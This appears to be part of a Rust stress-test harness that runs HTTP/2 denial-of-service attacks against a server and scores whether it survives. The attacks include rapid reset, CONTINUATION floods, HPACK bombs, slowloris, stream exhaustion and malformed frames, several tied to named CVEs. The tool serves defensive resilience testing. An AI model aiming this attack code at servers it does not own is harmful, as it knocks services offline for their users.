/// 9a. Stream exhaustion: MAX_CONCURRENT_STREAMS (+10) request streams
///    that never send END_STREAM, held open.
fn stream_exhaustion(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    if !raw.handshake(Settings::default()) {
        return false;
    }
    raw.await_settings();
    let n = raw.max_concurrent().min(10_000) + 10;
    ctx.note(format!(
        "server MAX_CONCURRENT_STREAMS={}",
        raw.max_concurrent()
    ));
    let post = pseudo(true, "/echo", &raw.authority);
    let fr: Vec<Frame> = (0..n)
        .map(|i| headers_frame(1 + 2 * i, post.clone(), false, true))
        .collect();
    if !raw.send_frames(&fr) {
        return false;
    }
    while !ctx.out_of_time() && raw.pump() {
        thread::sleep(Duration::from_millis(20));
    }
    false
}

/// 9b. Slowloris on the preface: one byte every 100 ms.
fn slowloris(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    // no SETTINGS ACK may interleave with the byte-by-byte preface
    raw.auto_ack = false;
    let mut all = BytesMut::from(&PREFACE[..]);
    Settings::default().encode(&mut all);
    for b in all.iter() {
        if ctx.out_of_time() || !raw.send(&[*b]) || !raw.pump() {
            return false;
        }
        thread::sleep(Duration::from_millis(100));
    }
    while !ctx.out_of_time() && raw.pump() {
        thread::sleep(Duration::from_millis(50));
    }
    false
}

/// 9c. Many idle connections: half send nothing at all, half a valid
///    preface and SETTINGS and then nothing.
fn idle_connections(ctx: &Ctx) {
    let mut conns = Vec::new();
    let mut failed = 0u64;
    for i in 0..ctx.idle_conns {
        if ctx.out_of_time() {
            break;
        }
        match TcpStream::connect_timeout(&ctx.target, Duration::from_secs(1)) {
            Ok(mut s) => {
                if i % 2 == 1 {
                    let mut b = BytesMut::from(&PREFACE[..]);
                    Settings::default().encode(&mut b);
                    let _ = s.write_all(&b);
                }
                let _ = s.set_nonblocking(true);
                conns.push(s);
            }
            Err(_) => failed += 1,
        }
    }
    ctx.note(format!(
        "{} idle connections opened ({failed} failed)",
        conns.len()
    ));
    while !ctx.out_of_time() {
        thread::sleep(Duration::from_millis(50));
    }
    let mut closed = 0;
    let mut buf = [0u8; 4096];
    for s in &mut conns {
        loop {
            match s.read(&mut buf) {
                Ok(0) => {
                    closed += 1;
                    break;
                }
                Ok(_) => continue,
                Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                Err(_) => {
                    closed += 1;
                    break;
                }
            }
        }
    }
    ctx.note(format!(
        "{closed}/{} idle connections closed by server within budget",
        conns.len()
    ));
}

/// 10. Oversized and malformed input, rotating: a frame over
///     MAX_FRAME_SIZE, garbage after the preface, random bytes after a
///     valid-looking preface, a frame length of 16 MiB on SETTINGS.
fn malformed(_ctx: &Ctx, raw: &mut Raw, rng: &mut Rng, n: u64) -> bool {
    let mut b = BytesMut::from(&PREFACE[..]);
    match n % 4 {
        0 => {
            Settings::default().encode(&mut b);
            let blk = get_block(raw, "/echo");
            headers_frame(1, pseudo(true, "/echo", &raw.authority), false, true).encode(&mut b);
            let _ = blk;
            // DATA claiming 1 MiB (> 16384 default) with 64 KiB following
            raw_frame(1 << 20, 0x0, 0, 1, &vec![b'D'; 64 * 1024], &mut b);
        }
        1 => {
            b.extend_from_slice(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n");
            b.extend_from_slice(&rng.fill(4096));
        }
        2 => {
            b.extend_from_slice(&rng.fill(64 * 1024));
        }
        _ => {
            // SETTINGS with length 16 MiB - 1, then junk
            raw_frame(0xff_ffff, 0x4, 0, 0, &vec![0u8; 32 * 1024], &mut b);
        }
    }
    raw.sent_frames += 1;
    raw.send(&b);
    true
}

struct Attack {
    name: &'static str,
    about: &'static str,
    /// The server must end the attacking connection(s).
    must_cut: bool,
    run: fn(&Ctx),
}

fn seed(n: u64) -> u64 {
    n.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x1234_5678
}

const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid-reset",
        about: "HEADERS then RST_STREAM as fast as possible (CVE-2023-44487)",
        must_cut: true,
        run: |c| attacker(c, seed(1), Duration::from_millis(500), rapid_reset),
    },
    Attack {
        name: "made-you-reset",
        about: "WINDOW_UPDATE 0 on streams, DATA on half-closed streams (CVE-2025-8671)",
        must_cut: false,
        run: |c| attacker(c, seed(2), Duration::from_millis(500), made_you_reset),
    },
    Attack {
        name: "continuation-flood",
        about: "endless CONTINUATION without END_HEADERS (CVE-2024-27316); slow header trickle",
        must_cut: true,
        run: |c| {
            thread::scope(|s| {
                s.spawn(|| attacker(c, seed(3), Duration::from_millis(500), continuation_flood));
                s.spawn(|| attacker(c, seed(33), Duration::from_millis(500), slow_headers));
            })
        },
    },
    Attack {
        name: "hpack-bomb",
        about: "4000 B entry referenced 64000x per block; 16000 tiny indexed fields",
        must_cut: false,
        run: |c| attacker(c, seed(4), Duration::from_millis(500), hpack_bomb),
    },
    Attack {
        name: "ping-settings-flood",
        about: "PING + SETTINGS flood while never reading (CVE-2019-9512/9515)",
        must_cut: false,
        run: |c| attacker(c, seed(5), Duration::from_millis(500), ping_settings_flood),
    },
    Attack {
        name: "empty-frames",
        about: "empty DATA/HEADERS/CONTINUATION flood; 0-length names (CVE-2019-9518/9516)",
        must_cut: false,
        run: |c| attacker(c, seed(6), Duration::from_millis(500), empty_frames),
    },
    Attack {
        name: "data-dribble",
        about: "/big?size=10MB on all streams, window 0 (3 conns) / 1-byte WINDOW_UPDATEs (CVE-2019-9511/9517)",
        must_cut: false,
        run: |c| {
            // ROPEWALK_ATTACKS_DRIBBLE=zero|dribble runs one half alone (diagnosis).
            let mode = std::env::var("ROPEWALK_ATTACKS_DRIBBLE").unwrap_or_default();
            thread::scope(|s| {
                if mode != "dribble" {
                    // three stalled connections per attacker: the cost that
                    // matters is per connection times connections
                    for k in 0..3 {
                        s.spawn(move || {
                            attacker(
                                c,
                                seed(71 + 10 * k),
                                Duration::from_millis(500),
                                zero_window,
                            )
                        });
                    }
                }
                if mode != "zero" {
                    s.spawn(|| attacker(c, seed(72), Duration::from_millis(500), dribble));
                }
            })
        },
    },
    Attack {
        name: "priority-churn",
        about: "PRIORITY + PRIORITY_UPDATE for thousands of idle streams (CVE-2019-9513)",
        must_cut: false,
        run: |c| attacker(c, seed(8), Duration::from_millis(500), priority_churn),
    },
    Attack {
        name: "stream-exhaustion",
        about: "MAX_CONCURRENT_STREAMS open streams; preface slowloris x20; idle connections",
        must_cut: false,
        run: |c| {
            thread::scope(|s| {
                s.spawn(|| attacker(c, seed(91), Duration::from_millis(500), stream_exhaustion));
                for i in 0..20 {
                    s.spawn(move || {
                        attacker(c, seed(100 + i), Duration::from_millis(500), slowloris)
                    });
                }
                s.spawn(|| idle_connections(c));
            })
        },
    },
    Attack {
        name: "malformed",
        about: "frames over MAX_FRAME_SIZE, garbage / random bytes after the preface",
        must_cut: true,
        run: |c| attacker(c, seed(10), Duration::from_secs(1), malformed),
    },
];

// ---------------------------------------------------------------- driver

struct Outcome {
    name: &'static str,
    ends: BTreeMap<End, u64>,
    connections: u64,
    rst_received: u64,
    frames_sent: u64,
    notes: Vec<String>,
    rss_before_kib: u64,
    rss_peak_kib: u64,
    cpu_s: f64,
    p50: Duration,
    p99: Duration,
    ok: u64,
    failed: u64,
    client_errors: BTreeMap<String, u64>,
    final_ok: Result<Duration, String>,
    checks: Vec<(String, bool)>,
}

fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1000.0
}

fn run_with_client(args: &Args, f: impl FnOnce()) -> LatencyStats {
    let stop = Arc::new(AtomicBool::new(false));
    let h = {
        let (t, p, s) = (args.target, args.path.clone(), stop.clone());
        thread::spawn(move || good_client(t, p, s))
    };
    f();
    stop.store(true, Ordering::Relaxed);
    h.join().unwrap_or_default()
}

fn json_str(s: &str) -> String {
    let mut o = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            c if (c as u32) < 0x20 => o.push_str(&format!("\\u{:04x}", c as u32)),
            c => o.push(c),
        }
    }
    o.push('"');
    o
}

fn main() {
    let args = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("{e}");
            std::process::exit(2);
        }
    };
    if let Some(only) = &args.only {
        for n in only {
            if !ATTACKS.iter().any(|a| a.name == n) {
                eprintln!("unknown attack {n:?}; --list shows the names");
                std::process::exit(2);
            }
        }
    }
    if let Some(pid) = args.pid {
        if rss_kib(pid).is_none() {
            eprintln!("--server-pid {pid}: no such process (did the server fail to start?)");
            std::process::exit(2);
        }
    }
    if let Err(e) = final_check(args.target, &args.path) {
        eprintln!(
            "server at {} does not answer GET {}: {e}",
            args.target, args.path
        );
        std::process::exit(2);
    }

    // baseline
    let base_dur = args.baseline.unwrap_or(args.duration);
    eprintln!("baseline: well-behaved client alone for {base_dur:?}");
    let cpu0 = args.pid.and_then(cpu_secs);
    let mon = Monitor::start(args.pid);
    let base = run_with_client(&args, || thread::sleep(base_dur));
    let base_peak = mon.finish();
    let base_cpu = args
        .pid
        .and_then(cpu_secs)
        .zip(cpu0)
        .map(|(a, b)| a - b)
        .unwrap_or(0.0);
    let (b50, b99) = (base.pct(0.5), base.pct(0.99));
    eprintln!(
        "baseline: {} ok, {} failed, p50 {:.2} ms, p99 {:.2} ms, RSS {} KiB, CPU {:.2} s",
        base.ok,
        base.failed,
        ms(b50),
        ms(b99),
        base_peak,
        base_cpu
    );
    // The same with a busy, well-behaved neighbour: as many clients as
    // there are attackers, each issuing GETs back to back without pause.
    // Attacker, server and measured client share this machine's cores, so
    // an attacker costs the client latency by its CPU use alone; the
    // question is whether an attack costs more than as much legitimate
    // load does. The limit is 10x the larger of the two baselines, and at
    // least 20 ms (see README.md: on loopback the baselines are tens of
    // microseconds, and floods delay the client by milliseconds whatever
    // the server; nghttpd measures the same).
    eprintln!(
        "baseline: well-behaved client beside {} busy well-behaved client(s) for {base_dur:?}",
        args.attackers
    );
    let busy_stop = Arc::new(AtomicBool::new(false));
    let busy: Vec<_> = (0..args.attackers.max(1))
        .map(|_| {
            let (t, p, s) = (args.target, args.path.clone(), busy_stop.clone());
            thread::spawn(move || busy_client(t, p, s))
        })
        .collect();
    let loaded = run_with_client(&args, || thread::sleep(base_dur));
    busy_stop.store(true, Ordering::Relaxed);
    let busy_ok: u64 = busy.into_iter().map(|h| h.join().unwrap_or(0)).sum();
    let (l50, l99) = (loaded.pct(0.5), loaded.pct(0.99));
    eprintln!(
        "baseline (busy): {} ok, {} failed, p50 {:.2} ms, p99 {:.2} ms; the busy clients: {busy_ok} requests",
        loaded.ok,
        loaded.failed,
        ms(l50),
        ms(l99),
    );
    let p99_limit = (b99.max(l99) * 10).max(Duration::from_millis(20));

    let mut outcomes = Vec::new();
    for at in ATTACKS {
        if let Some(only) = &args.only {
            if !only.iter().any(|n| n == at.name) {
                continue;
            }
        }
        eprintln!("attack {}: {}", at.name, at.about);
        thread::sleep(Duration::from_millis(300));
        let rss_before = args.pid.and_then(rss_kib).unwrap_or(0);
        let cpu0 = args.pid.and_then(cpu_secs);
        let ctx = Ctx {
            target: args.target,
            deadline: Instant::now() + args.duration,
            stats: Mutex::new(AttackStats::default()),
            idle_conns: args.idle_conns,
            attackers: args.attackers,
        };
        let mon = Monitor::start(args.pid);
        let lat = run_with_client(&args, || (at.run)(&ctx));
        let peak = mon.finish();
        let cpu = args
            .pid
            .and_then(cpu_secs)
            .zip(cpu0)
            .map(|(a, b)| a - b)
            .unwrap_or(0.0);
        let final_ok = final_check(args.target, &args.path);
        let st = ctx.stats.into_inner().unwrap();

        let mut checks = Vec::new();
        let cut = st
            .ends
            .iter()
            .filter(|(e, _)| e.cut_off())
            .map(|(_, n)| n)
            .sum::<u64>();
        let total = st.ends.values().sum::<u64>();
        let attacker_ok = if at.must_cut {
            cut > 0 && cut + st.ends.get(&End::Budget).copied().unwrap_or(0) == total
        } else {
            true
        };
        checks.push((
            "attacker cut off".to_string() + if at.must_cut { "" } else { "/held" },
            attacker_ok,
        ));
        if at.name == "continuation-flood" && args.duration >= SLOW_HEADERS_ASSERT_FROM {
            let timed_out = st
                .ends
                .keys()
                .any(|e| matches!(e, End::GoAway(_, d) if d.contains("header block timeout")));
            checks.push(("slow headers cut".into(), timed_out));
        }
        if args.pid.is_some() {
            checks.push(("RSS<=idle+64MiB".into(), peak <= rss_before + 64 * 1024));
        }
        checks.push(("still serves".into(), final_ok.is_ok()));
        let p99 = lat.pct(0.99);
        checks.push(("p99<=10x base".into(), p99 <= p99_limit && lat.ok > 0));

        let o = Outcome {
            name: at.name,
            ends: st.ends,
            connections: st.connections,
            rst_received: st.rst_received,
            frames_sent: st.frames_sent,
            notes: st.notes,
            rss_before_kib: rss_before,
            rss_peak_kib: peak,
            cpu_s: cpu,
            p50: lat.pct(0.5),
            p99,
            ok: lat.ok,
            failed: lat.failed,
            client_errors: lat.errors,
            final_ok,
            checks,
        };
        eprintln!(
            "  -> {} | conns {} | RSS {}->{} KiB | CPU {:.2}s | p50 {:.2} p99 {:.2} ms | {} ok {} failed",
            ends_summary(&o.ends),
            o.connections,
            o.rss_before_kib,
            o.rss_peak_kib,
            o.cpu_s,
            ms(o.p50),
            ms(o.p99),
            o.ok,
            o.failed
        );
        outcomes.push(o);
    }

    // table
    println!();
    let load = std::fs::read_to_string("/proc/loadavg").unwrap_or_default();
    println!(
        "host load average {}  ({} CPUs); latency figures are sensitive to other load",
        load.split_whitespace()
            .take(3)
            .collect::<Vec<_>>()
            .join(" "),
        thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(0)
    );
    println!(
        "target {}  duration {:?}  baseline p50 {:.2} ms p99 {:.2} ms ({} req); beside busy clients p50 {:.2} ms p99 {:.2} ms ({} req)  p99 limit {:.2} ms",
        args.target,
        args.duration,
        ms(b50),
        ms(b99),
        base.ok,
        ms(l50),
        ms(l99),
        loaded.ok,
        ms(p99_limit)
    );
    println!(
        "{:<20} {:<44} {:>5} {:>16} {:>6} {:>15} {:>13} {:>5} verdict",
        "attack",
        "attacker connections ended by",
        "recon",
        "RSS MiB bef→peak",
        "CPU s",
        "p50/p99 ms",
        "good ok/fail",
        "final"
    );
    let mut all_ok = true;
    for o in &outcomes {
        let fails: Vec<&str> = o
            .checks
            .iter()
            .filter(|(_, ok)| !ok)
            .map(|(n, _)| n.as_str())
            .collect();
        all_ok &= fails.is_empty();
        let verdict = if fails.is_empty() {
            "PASS".to_string()
        } else {
            format!("FAIL: {}", fails.join(", "))
        };
        let ends = ends_summary(&o.ends);
        println!(
            "{:<20} {:<44} {:>5} {:>16} {:>6.2} {:>15} {:>13} {:>5} {}",
            o.name,
            ends,
            o.connections.saturating_sub(1),
            format!(
                "{:.1}→{:.1}",
                o.rss_before_kib as f64 / 1024.0,
                o.rss_peak_kib as f64 / 1024.0
            ),
            o.cpu_s,
            format!("{:.2}/{:.2}", ms(o.p50), ms(o.p99)),
            format!("{}/{}", o.ok, o.failed),
            if o.final_ok.is_ok() { "ok" } else { "FAIL" },
            verdict
        );
    }
    let mut details = false;
    for o in &outcomes {
        let mut lines = o.notes.clone();
        let ends: Vec<String> = o
            .ends
            .iter()
            .map(|(e, n)| format!("{} x{n}", e.describe()))
            .collect();
        lines.push(format!("ends: {}", ends.join(", ")));
        lines.push(format!(
            "{} frames written, {} RST_STREAM received",
            o.frames_sent, o.rst_received
        ));
        for (e, n) in &o.client_errors {
            lines.push(format!("good client error x{n}: {e}"));
        }
        if let Err(e) = &o.final_ok {
            lines.push(format!("final request failed: {e}"));
        }
        if !details {
            println!("\ndetails:");
            details = true;
        }
        println!("  {}: {}", o.name, lines.join("; "));
    }

    if let Some(path) = &args.json {
        let mut j = String::from("{\n");
        j.push_str(&format!(
            "  \"target\": {}, \"duration_s\": {}, \"baseline\": {{\"p50_ms\": {:.3}, \"p99_ms\": {:.3}, \"ok\": {}, \"failed\": {}, \"rss_kib\": {}, \"cpu_s\": {:.3}}}, \"baseline_busy\": {{\"p50_ms\": {:.3}, \"p99_ms\": {:.3}, \"ok\": {}, \"failed\": {}, \"busy_requests\": {}}}, \"p99_limit_ms\": {:.3},\n  \"attacks\": [\n",
            json_str(&args.target.to_string()),
            args.duration.as_secs_f64(),
            ms(b50),
            ms(b99),
            base.ok,
            base.failed,
            base_peak,
            base_cpu,
            ms(l50),
            ms(l99),
            loaded.ok,
            loaded.failed,
            busy_ok,
            ms(p99_limit)
        ));
        for (i, o) in outcomes.iter().enumerate() {
            let ends: Vec<String> = o
                .ends
                .iter()
                .map(|(e, n)| format!("{}: {n}", json_str(&e.describe())))
                .collect();
            let checks: Vec<String> = o
                .checks
                .iter()
                .map(|(c, ok)| format!("{}: {ok}", json_str(c)))
                .collect();
            let notes: Vec<String> = o.notes.iter().map(|s| json_str(s)).collect();
            j.push_str(&format!(
                "    {{\"name\": {}, \"ends\": {{{}}}, \"connections\": {}, \"reconnects\": {}, \"frames_sent\": {}, \"rst_received\": {}, \"rss_before_kib\": {}, \"rss_peak_kib\": {}, \"cpu_s\": {:.3}, \"p50_ms\": {:.3}, \"p99_ms\": {:.3}, \"ok\": {}, \"failed\": {}, \"final_ok\": {}, \"checks\": {{{}}}, \"notes\": [{}]}}{}\n",
                json_str(o.name),
                ends.join(", "),
                o.connections,
                o.connections.saturating_sub(1),
                o.frames_sent,
                o.rst_received,
                o.rss_before_kib,
                o.rss_peak_kib,
                o.cpu_s,
                ms(o.p50),
                ms(o.p99),
                o.ok,
                o.failed,
                o.final_ok.is_ok(),
                checks.join(", "),
                notes.join(", "),
                if i + 1 < outcomes.len() { "," } else { "" }
            ));
        }
        j.push_str("  ]\n}\n");
        if let Err(e) = std::fs::write(path, j) {
            eprintln!("--json {path}: {e}");
        }
    }

    if args.assert && !all_ok {
        println!("\nASSERT FAILED: see the verdict column");
        std::process::exit(1);
    }
    if args.assert {
        println!("\nall assertions passed");
    }
}

fn ends_summary(ends: &BTreeMap<End, u64>) -> String {
    let mut v: Vec<(&End, &u64)> = ends.iter().collect();
    v.sort_by(|a, b| b.1.cmp(a.1));
    let s: Vec<String> = v
        .iter()
        .take(2)
        .map(|(e, n)| format!("{}x{n}", e.describe()))
        .collect();
    let mut s = s.join("; ");
    if v.len() > 2 {
        s.push_str(&format!("; +{} kinds", v.len() - 2));
    }
    s
}
